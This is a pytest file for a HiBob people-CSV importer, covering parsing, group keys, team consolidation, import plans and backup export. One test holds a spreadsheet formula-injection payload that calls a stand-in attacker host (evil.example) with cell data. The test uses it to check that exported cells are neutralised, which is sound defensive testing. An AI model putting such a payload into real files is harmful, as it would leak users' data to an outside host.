"""The HiBob CSV reader, the group keys and the small-team consolidation, on hand-made files."""

from __future__ import annotations

import time

import pytest

from tracker_core.groups import GroupInputError
from tracker_core.groups.backup import export_csv, parse_backup
from tracker_core.groups.hibob import (
    PersonRow,
    TeamMember,
    consolidate,
    group_key,
    parse_people,
    plan_import,
)

SAMPLE = (
    "Employee ID,Display name,First name,Last name,Email,Department,Site,Job title\n"
    "1001,Dana Ortiz,Dana,Ortiz,dana@example.test,Engineering,Tel Aviv,VP Engineering\n"
    '1002,"Doe, John",John,Doe,JOHN@example.test,"Sales, EMEA",London,"The ""closer"""\n'
    '1003,"Zoë Müller",Zoë,Müller,zoe@example.test,Forschung & Entwicklung,Berlin,AE\n'
)


def people(text: str | bytes) -> list[tuple[int, str, str, str, str]]:
    data = text.encode() if isinstance(text, str) else text
    return [(p.line, p.email, p.department, p.name, p.title) for p in parse_people(data)]


EXPECTED = [
    (2, "dana@example.test", "Engineering", "Dana Ortiz", "VP Engineering"),
    (3, "JOHN@example.test", "Sales, EMEA", "Doe, John", 'The "closer"'),
    (4, "zoe@example.test", "Forschung & Entwicklung", "Zoë Müller", "AE"),
]


@pytest.mark.parametrize(
    "encode",
    [
        pytest.param(lambda s: s.encode(), id="plain"),
        pytest.param(lambda s: b"\xef\xbb\xbf" + s.encode(), id="bom"),
        pytest.param(lambda s: s.replace("\n", "\r\n").encode(), id="crlf"),
        pytest.param(
            lambda s: (
                s.replace(",", ";")
                .replace('"Sales; EMEA"', '"Sales, EMEA"')
                .replace('"Doe; John"', '"Doe, John"')
                .encode()
            ),
            id="semicolons",
        ),
        pytest.param(lambda s: s.encode() + b"\n\n", id="trailing-blank-lines"),
    ],
)
def test_the_sample_reads_the_same_however_it_was_saved(encode: object) -> None:
    assert people(encode(SAMPLE)) == EXPECTED  # type: ignore[operator]


def test_headers_match_whatever_their_case_spacing_and_order() -> None:
    text = (
        "  JOB_TITLE ;department;display-name; Work  Email \nEng;R&D;Ana Silva;ana@example.test\n"
    )
    assert people(text) == [(2, "ana@example.test", "R&D", "Ana Silva", "Eng")]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "the file is empty: expected a header line with Email, Department"),
        (b"\r\n \n", "the file is empty"),
        (b"Name,Site\nAna,Paris\n", "line 1: the CSV lacks the columns Email, Department"),
        (b"Email,Site\na@x.test,Paris\n", "lacks the column Department (its header has: Email"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "line 3: the file is binary"),
        (b"Email,Department\na@x.test,\xff\xfeEng\n", "line 2: the file is not UTF-8"),
        (b"Email,Department\na@x.test,Eng\nb@x.test,Sales,EMEA\n", "line 3: 3 cells where"),
        (b"Email,Department\na@x.test,Eng\n,Sales\n", "line 3, column Email: not an email"),
        (
            b'Email,Department,Display name\na@x.test,Eng,"Ana\nSilva"\nnot-an-email,Eng,B\n',
            "line 4, column Email: not an email address ('not-an-email')",
        ),
        (b'Email,Department\na@x.test,"Eng\n', "line 2: not valid CSV"),
    ],
)
def test_an_unusable_file_is_refused_naming_the_line_and_column(data: bytes, message: str) -> None:
    with pytest.raises(GroupInputError) as refused:
        parse_people(data)
    assert message in str(refused.value)
    assert "\n" not in str(refused.value)


def person(
    email: str, department: str = "", group: str = "", team: str = "", name: str = ""
) -> PersonRow:
    return PersonRow(2, email, department, group, team, name, "")


@pytest.mark.parametrize(
    ("row", "key"),
    [
        (person("a@x", "Eng", "Platform", "Core"), "Platform > Core"),
        (person("a@x", "Eng", "Platform", "Platform"), "Platform > Platform"),
        (person("a@x", "Eng", "Platform"), "Platform > Platform"),
        (person("a@x", "Eng", team="Core"), "Eng > Core"),
        (person("a@x", "Eng"), "Eng > General"),
        (person("a@x"), "General > General"),
        (person("a@x", "R>D", team=" Big   Data "), "R/D > Big Data"),
    ],
)
def test_group_keys(row: PersonRow, key: str) -> None:
    assert group_key(row) == key


def team(**sizes: int) -> dict[str, str]:
    """Members per key, keys written with '__' for ' > ' (e.g. Eng__Core=3)."""
    placed = {}
    for key, size in sizes.items():
        for n in range(size):
            placed[f"{key.lower()}{n}@x"] = key.replace("__", " > ")
    return placed


def sizes(result: dict[str, str]) -> dict[str, int]:
    counted: dict[str, int] = {}
    for key in result.values():
        counted[key] = counted.get(key, 0) + 1
    return counted


@pytest.mark.parametrize(
    ("placed", "expected"),
    [
        # Big teams stay as they are.
        (team(Eng__Core=3, Sales__EMEA=4), {"Eng > Core": 3, "Sales > EMEA": 4}),
        # A small team joins its parent's only big team.
        (team(Eng__Core=3, Eng__Tools=1), {"Eng > Core": 4}),
        # Two small teams of one parent form its General team when it has no big one.
        (team(Ops__A=2, Ops__B=2, Eng__Core=3), {"Ops > General": 4, "Eng > Core": 3}),
        # A small General beside big siblings joins the largest (a tie: the first by name).
        (team(Eng__A=3, Eng__B=3, Eng__C=1), {"Eng > A": 4, "Eng > B": 3}),
        (team(Eng__A=3, Eng__B=5, Eng__General=1), {"Eng > A": 3, "Eng > B": 6}),
        # What is still small ends in General > General.
        (team(Eng__Core=3, Ops__A=1), {"Eng > Core": 3, "General > General": 1}),
        # The original's bug: a small General > General merged into itself and was deleted,
        # its members lost. Here it stays, with every member.
        (team(Sales__EMEA=1, Sales__US=1), {"General > General": 2}),
        (team(General__General=1, Eng__Core=3), {"General > General": 1, "Eng > Core": 3}),
    ],
)
def test_consolidation_on_hand_checked_teams(
    placed: dict[str, str], expected: dict[str, int]
) -> None:
    result = consolidate(placed)
    assert sizes(result) == expected
    assert result.keys() == placed.keys()  # nobody is ever dropped


def test_a_larger_minimum_and_none() -> None:
    placed = team(Eng__Core=3, Eng__Tools=2)
    assert sizes(consolidate(placed, 1)) == {"Eng > Core": 3, "Eng > Tools": 2}
    assert sizes(consolidate(placed, 4)) == {"Eng > General": 5}


def test_the_plan_matches_by_email_then_by_unique_display_name() -> None:
    rows = parse_people(
        b"Email,Department,Team,Display name\n"
        b"ANA@example.test,Eng,Core,Ana Silva\n"
        b"ben.ito@corp.test,Eng,Core,Ben Ito\n"
        b"cara@example.test,Eng,Core,Cara Diaz\n"
        b"x1@corp.test,Sales,,Sam Lee\n"
        b"x2@corp.test,Sales,,Sam Lee\n"
        b"ghost@corp.test,Sales,,Gus Host\n"
    )
    members = [
        TeamMember("ana@example.test", "Ana Silva", "Old"),
        TeamMember("ben@example.test", "Ben  ito", None),  # alias: found by name
        TeamMember("cara@example.test", "Cara Diaz", "Eng > Core"),  # already there
        TeamMember("sam@example.test", "Sam Lee", "Old"),  # two rows with the name: no match
    ]
    plan = plan_import(rows, members, ["Old", "Eng > Core"])
    body = plan.to_json()
    assert (body["total_members"], body["matched"]) == (4, 3)
    assert body["matched_by_name"] == [
        {"email": "ben@example.test", "csv_email": "ben.ito@corp.test", "name": "Ben Ito"}
    ]
    assert body["moves"] == [
        {
            "email": "ana@example.test",
            "name": "Ana Silva",
            "from": "Old",
            "to": "Eng > Core",
            "matched_by": "email",
        },
        {
            "email": "ben@example.test",
            "name": "Ben  ito",
            "from": None,
            "to": "Eng > Core",
            "matched_by": "name",
        },
    ]
    assert body["new_groups"] == []
    assert body["groups"] == [{"name": "Eng > Core", "member_count": 3}]
    assert body["not_in_file"] == [{"email": "sam@example.test", "name": "Sam Lee", "group": "Old"}]
    assert [row["line"] for row in body["unknown_rows"]] == [5, 6, 7]
    assert "applied" not in body


def test_fifty_thousand_rows_in_seconds() -> None:
    lines = ["Email,Department,Team,Display name"]
    lines += [f"p{n}@example.test,Dept {n % 40},Team {n % 400},Person {n}" for n in range(50_000)]
    data = ("\n".join(lines) + "\n").encode()
    members = [TeamMember(f"p{n}@example.test", f"Person {n}", None) for n in range(0, 50_000, 7)]
    started = time.perf_counter()
    plan = plan_import(parse_people(data), members, [])
    elapsed = time.perf_counter() - started
    assert plan.matched == len(members) and len(plan.unknown_rows) == 50_000 - len(members)
    assert sum(count for _, count in plan.groups) == len(members)
    assert elapsed < 10, elapsed


def test_a_backup_never_hands_a_spreadsheet_a_formula_and_still_reads_back() -> None:
    """Names come from members' profiles and HiBob's departments: a cell a spreadsheet would
    run (``=HYPERLINK(...)``) is written inert, and restoring gives the name back as it was."""
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [
        ("ana@x.test", "+1 555 Ana", link),
        ("ben@x.test", "-Ben", "@ops > On call"),
        ("cy@x.test", "'quoted' Cy", "'=already inert"),
        ("di@x.test", "Di", "Plain > Team"),
    ]
    text = export_csv(rows)
    cells = [line.split(",", 1)[1] for line in text.splitlines()[1:]]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert "\n".join(text.splitlines()[1:]).count(",'") == 5  # every risky cell, made inert
    assert ',"\'=HYPERLINK(""http' in text  # and the quoted one too
    back = parse_backup(text.encode())
    assert [(r.email, r.name, r.group) for r in back] == rows


def test_a_backup_reads_back_exactly_what_was_written() -> None:
    rows = [
        ("ana@x.test", 'Ana "the boss" Silva', "Eng > Core"),
        ("john@x.test", "Doe, John", "Sales, EMEA > West"),
        ("zoe@x.test", "Zoë Müller", None),
    ]
    text = export_csv(rows)
    assert text.splitlines()[0] == "email,name,group"
    assert text.splitlines()[2] == 'john@x.test,"Doe, John","Sales, EMEA > West"'
    back = parse_backup(text.encode())
    assert [(r.line, r.email, r.name, r.group) for r in back] == [
        (n + 2, email, name, group) for n, (email, name, group) in enumerate(rows)
    ]
    with pytest.raises(GroupInputError, match=r"line 2, column group: .*empty level"):
        parse_backup(b"email,group\na@x.test,Eng > \n")
